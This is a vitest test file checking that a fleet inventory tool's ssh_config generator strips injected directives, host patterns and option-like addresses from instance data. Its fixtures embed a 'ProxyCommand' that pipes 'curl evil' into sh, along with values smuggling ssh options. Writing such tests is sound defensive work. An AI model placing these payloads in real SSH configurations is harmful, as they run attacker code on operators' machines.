/**
 * `fleetline inventory --ssh-config` output goes into ~/.ssh/config. Role and version can come
 * from the records agents send (registry.records), instance ids and addresses from records,
 * static files and EC2: none of them may add a directive (a `ProxyCommand` runs a command on
 * the operator's machine) or a host pattern, and an address is never one that `ssh` or a
 * `ProxyCommand … %h` would read as an option (a leading `-`).
 */
import { describe, expect, it } from 'vitest';
import { sshConfig } from '../../src/generate/inventory.ts';
import type { GenerationModel, InstanceModel } from '../../src/generate/model.ts';

const inject = '\nHost *\n  ProxyCommand sh -c "curl evil | sh"\r\n';
const base: InstanceModel = {
  instanceId: 'i-ok',
  role: 'web',
  version: '1.0',
  slot: 0,
  privateIp: '10.0.0.1',
  launchedAt: 0,
};
const model: GenerationModel = {
  roles: [],
  measurements: [],
  instances: [
    { ...base, instanceId: 'i-a', version: `1.0${inject}` },
    { ...base, instanceId: 'i-b', role: `api${inject}`, slot: 1, privateIp: '10.0.0.2' },
    { ...base, instanceId: 'i-c', slot: 2, privateIp: undefined, version: `2${inject}` },
    { ...base, instanceId: 'i-d', slot: 3, az: `eu-1a${inject}`, privateIp: '10.0.0.4' },
    { ...base, instanceId: `i-e * !x${inject}`, slot: 4, privateIp: '10.0.0.5' },
    { ...base, instanceId: 'i-f', slot: 5, privateIp: `10.0.0.6${inject}` },
    { ...base, instanceId: 'i-g', slot: 6, privateIp: undefined, privateDns: 'ip-10-0-0-7 %h' },
    { ...base, instanceId: 'i-h', slot: 7, privateIp: '-J10.0.0.8', privateDns: 'ip-10-0-0-8' },
    { ...base, instanceId: 'i-i', slot: 8, privateIp: undefined, privateDns: '-oBatchMode' },
  ],
};

describe('ssh_config from hostile names', () => {
  const text = sshConfig(model);
  const lines = text.split('\n');

  it('has only comments, Host lines and HostName lines', () => {
    for (const l of lines) {
      if (l === '' || l.startsWith('#')) continue;
      expect(l, JSON.stringify(l)).toMatch(
        /^(Host [A-Za-z0-9._-]+( [A-Za-z0-9._-]+)?| {2}HostName [A-Za-z0-9:][A-Za-z0-9.:-]*)$/,
      );
    }
    expect(text).not.toMatch(/\r/);
    expect(text).not.toMatch(/^\s*ProxyCommand/m);
    expect(text).not.toMatch(/^Host \*/m);
  });

  it('keeps the well-formed entries', () => {
    expect(text).toContain('Host web-0 i-a\n  HostName 10.0.0.1');
    expect(text).toContain('Host web-3 i-d\n  HostName 10.0.0.4');
    expect(text).not.toContain('HostName 10.0.0.6');
    expect(text).toContain('Host web-7 i-h\n  HostName ip-10-0-0-8');
    expect(text).toContain('# i-i (role web, version 1.0, slot 8): no private address known');
  });
});
